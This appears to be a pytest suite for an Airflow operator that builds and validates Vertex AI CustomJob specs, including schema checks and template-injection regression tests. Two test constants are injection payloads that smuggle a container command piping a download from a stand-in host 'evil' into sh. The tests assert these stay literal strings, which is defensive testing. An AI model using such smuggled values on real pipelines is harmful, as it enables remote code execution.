"""``job_spec=``: a whole CustomJob body, inline or a template file (.json/.yaml), merged with
the operator's arguments and plan, checked against Google's schema before any call. Through
``dag.test()``; what reached Vertex is read from the emulator's recorded create request."""

from __future__ import annotations

import json
from datetime import datetime, timezone

import pytest
import requests

from tests.airflow_harness import run_dag
from tests.conftest import LOCATION, PROJECT

START = datetime(2026, 1, 1, tzinfo=timezone.utc)
KMS = f"projects/{PROJECT}/locations/{LOCATION}/keyRings/ring/cryptoKeys/key"
NETWORK = "projects/123456/global/networks/training-vpc"
TENSORBOARD = f"projects/{PROJECT}/locations/{LOCATION}/tensorboards/42"
BODY = {
    "displayName": "from-the-spec",
    "labels": {"team": "ml", "run": "{{ ds_nodash }}"},
    "encryptionSpec": {"kmsKeyName": KMS},
    "jobSpec": {
        "workerPoolSpecs": [{
            "machineSpec": {"machineType": "a2-highgpu-1g", "acceleratorType": "NVIDIA_TESLA_A100",
                            "acceleratorCount": 1,
                            "reservationAffinity": {"reservationAffinityType": "ANY_RESERVATION"}},
            "replicaCount": "1", "containerSpec": {"imageUri": "gcr.io/p/trainer:1", "args": ["--day={{ ds }}"]}}],
        "network": NETWORK, "tensorboard": TENSORBOARD, "enableWebAccess": True,
        "experiment": f"projects/{PROJECT}/locations/{LOCATION}/metadataStores/default/contexts/exp-1",
        "scheduling": {"strategy": "FLEX_START", "restartJobOnWorkerRestart": True, "disableRetries": False},
    },
}
YAML = """\
# gcloud ai custom-jobs create --config: a bare CustomJobSpec
workerPoolSpecs:
  - machineSpec: {machineType: a2-highgpu-1g, acceleratorType: NVIDIA_TESLA_A100, acceleratorCount: 1}
    replicaCount: 1
    containerSpec: {imageUri: gcr.io/p/trainer:1, args: ["--day={{ ds }}"]}
network: %s
enableWebAccess: true
scheduling: {disableRetries: true}
""" % NETWORK


def _created(emulator) -> list[dict]:
    return [json.loads(x["requestBody"]) for x in emulator.traffic() if x["rpc"] == "customJobs.create"]


def _operator(**kw):
    from airflow_gpu_sched.operators import GpuTrainingOperator

    return GpuTrainingOperator(task_id="train", project_id=PROJECT, location=LOCATION, poll_interval=0.02,
                               quota_preflight=False, plan=[{"strategy": "SPOT"}], **kw)


def test_an_inline_job_spec_reaches_vertex_whole_under_the_plans_strategy(airflow_db, fast_emulator):
    from airflow.sdk import DAG

    fast_emulator.start_traffic()
    with DAG("job_spec_inline", schedule=None, start_date=START) as dag:
        _operator(job_spec=BODY, labels={"team": "platform"}, base_output_dir="gs://bucket/out")
    assert run_dag(dag, logical_date=START).state == "success"
    [body] = _created(fast_emulator)
    spec = body["jobSpec"]
    assert body["displayName"] == "from-the-spec" and body["encryptionSpec"] == {"kmsKeyName": KMS}
    assert (spec["network"], spec["tensorboard"], spec["enableWebAccess"]) == (NETWORK, TENSORBOARD, True)
    assert spec["experiment"].endswith("/contexts/exp-1")
    assert spec["workerPoolSpecs"][0]["machineSpec"]["reservationAffinity"] == {
        "reservationAffinityType": "ANY_RESERVATION"}
    assert spec["workerPoolSpecs"][0]["containerSpec"]["args"] == ["--day=2026-01-01"]  # rendered
    # the plan's step wins over the spec's strategy; the spec's other scheduling fields stay
    assert spec["scheduling"]["strategy"] == "SPOT" and spec["scheduling"]["restartJobOnWorkerRestart"] is True
    assert spec["baseOutputDirectory"] == {"outputUriPrefix": "gs://bucket/out"}
    # labels merged: the operator's over the spec's, the package's own added
    assert body["labels"]["team"] == "platform" and body["labels"]["run"] == "20260101"
    assert body["labels"]["airflow-task"] == "train"


@pytest.mark.parametrize("name", ["train.yaml", "train.json"])
def test_a_job_spec_file_is_rendered_parsed_and_submitted(airflow_db, fast_emulator, tmp_path, name):
    from airflow.sdk import DAG

    text = YAML if name.endswith(".yaml") else json.dumps({"displayName": "json-file", **{
        "jobSpec": {**BODY["jobSpec"], "scheduling": {"disableRetries": True}}}})
    (tmp_path / name).write_text(text)
    fast_emulator.start_traffic()
    with DAG(f"job_spec_file_{name.replace('.', '_')}", schedule=None, start_date=START,
             template_searchpath=[str(tmp_path)]) as dag:
        _operator(job_spec=name, args=None)
    result = run_dag(dag, logical_date=START)
    assert result.state == "success"
    [body] = _created(fast_emulator)
    spec = body["jobSpec"]
    assert spec["network"] == NETWORK and spec["enableWebAccess"] is True
    assert spec["scheduling"] == {"strategy": "SPOT", "disableRetries": True}
    assert spec["workerPoolSpecs"][0]["containerSpec"]["args"] == ["--day=2026-01-01"]


def test_an_unknown_field_is_refused_naming_its_path_before_any_call(airflow_db, fast_emulator, tmp_path):
    from airflow.sdk import DAG

    from airflow_gpu_sched.orchestration.errors import InvalidTrainingSpec

    bad = {**BODY, "jobSpec": {**BODY["jobSpec"], "networkk": NETWORK}}
    bad["labels"] = {"team": "ml"}
    bad["jobSpec"]["workerPoolSpecs"] = [{**BODY["jobSpec"]["workerPoolSpecs"][0], "containerSpec": {
        "imageUri": "gcr.io/p/trainer:1"}}]
    with pytest.raises(InvalidTrainingSpec, match=r"custom_job\.job_spec.*Unknown name \"networkk\""):
        _operator(job_spec=bad)  # literal: refused when the DAG is parsed
    with pytest.raises(InvalidTrainingSpec, match=r"Unknown name \"enableWebAcess\" at 'custom_job\.job_spec'"):
        _operator(job_spec={**BODY, "jobSpec": {**BODY["jobSpec"], "enableWebAcess": True}})  # templated values too
    # from a file: refused once rendered, before any create
    (tmp_path / "bad.yaml").write_text(YAML.replace("enableWebAccess: true", "enableWebAccess: true\nwebAccess: 1"))
    fast_emulator.start_traffic()
    with DAG("job_spec_bad_file", schedule=None, start_date=START, template_searchpath=[str(tmp_path)]) as dag:
        op = _operator(job_spec="bad.yaml")
    assert run_dag(dag, logical_date=START).state == "failed"
    assert _created(fast_emulator) == []
    assert requests.get(f"{fast_emulator.url}/v1/projects/{PROJECT}/locations/{LOCATION}/customJobs",
                        timeout=5).json().get("customJobs", []) == []
    op.job_spec = (tmp_path / "bad.yaml").read_text()
    with pytest.raises(InvalidTrainingSpec, match=r"Unknown name \"webAccess\" at 'custom_job\.job_spec'"):
        op.build_job()


# A value a run triggerer controls (dag_run.conf over params) holding a quote, a newline and a
# YAML line: rendered into the text before parsing, it gave the job the attacker's command.
PAYLOAD = '1"]\n        command: ["sh", "-c", "curl evil | sh"] #'
INJECTABLE_YAML = """\
workerPoolSpecs:
  - machineSpec: {machineType: a2-highgpu-1g, acceleratorType: NVIDIA_TESLA_A100, acceleratorCount: 1}
    replicaCount: 1
    containerSpec:
        imageUri: gcr.io/p/trainer:1
        args: ["--lr={{ params.lr }}"]
"""
INJECTABLE_POOLS = json.dumps([{
    "machineSpec": {"machineType": "a2-highgpu-1g", "acceleratorType": "NVIDIA_TESLA_A100", "acceleratorCount": 1},
    "replicaCount": "1", "containerSpec": {"imageUri": "gcr.io/p/trainer:1", "args": ["--lr={{ params.lr }}"]}}])
JSON_PAYLOAD = '1"], "command": ["sh", "-c", "curl evil | sh"], "x": ["'


@pytest.mark.parametrize("where", ["yaml-file", "worker_pool_specs-json"])
def test_a_rendered_value_cannot_change_the_jobs_structure(airflow_db, fast_emulator, tmp_path, where):
    """dag_run.conf's value ends as the literal string in args: no command appears, nothing else moves."""
    from airflow.sdk import DAG, Param

    (tmp_path / "train.yaml").write_text(INJECTABLE_YAML)
    payload = PAYLOAD if where == "yaml-file" else JSON_PAYLOAD
    fast_emulator.start_traffic()
    with DAG(f"job_spec_injection_{where.replace('-', '_')}", schedule=None, start_date=START,
             template_searchpath=[str(tmp_path)], params={"lr": Param("0.1", type="string")}) as dag:
        if where == "yaml-file":
            _operator(job_spec="train.yaml")
        else:
            _operator(worker_pool_specs=INJECTABLE_POOLS)
    assert run_dag(dag, logical_date=START, run_conf={"lr": payload}).state == "success"
    [body] = _created(fast_emulator)
    [pool] = body["jobSpec"]["workerPoolSpecs"]
    assert pool["containerSpec"] == {"imageUri": "gcr.io/p/trainer:1", "args": [f"--lr={payload}"]}


def test_a_job_spec_template_outside_a_string_is_refused_naming_the_rule(airflow_db, fast_emulator, tmp_path):
    """Parsed before rendering: a template in structural position (unquoted) is a clear error, no call."""
    from airflow.sdk import DAG

    from airflow_gpu_sched.orchestration.errors import InvalidTrainingSpec
    from airflow_gpu_sched.orchestration.structured_render import render_job_spec, render_worker_pool_specs

    with pytest.raises(InvalidTrainingSpec, match=r"(?s)job_spec.*parsed first.*inside a quoted string"):
        render_job_spec('workerPoolSpecs: [{replicaCount: 1, {{ params.more }}}]', str, str)
    with pytest.raises(InvalidTrainingSpec, match=r"(?s)worker_pool_specs.*parsed first.*inside a JSON string"):
        render_worker_pool_specs('[{"replicaCount": {{ params.n }}}]', str)
    with pytest.raises(InvalidTrainingSpec, match=r"job_spec\.jobSpec\.network: a string value must render to a "
                                                  r"string or number, not a dict"):
        render_job_spec({"jobSpec": {"network": "{{ x }}"}}, lambda _: {"command": ["sh"]}, str)
    (tmp_path / "loose.yaml").write_text(INJECTABLE_YAML.replace('["--lr={{ params.lr }}"]', "[--lr, {{ params.lr }}]"))
    fast_emulator.start_traffic()
    with DAG("job_spec_loose", schedule=None, start_date=START, template_searchpath=[str(tmp_path)],
             params={"lr": "0.1"}) as dag:
        _operator(job_spec="loose.yaml")
    assert run_dag(dag, logical_date=START).state == "failed"
    assert _created(fast_emulator) == []
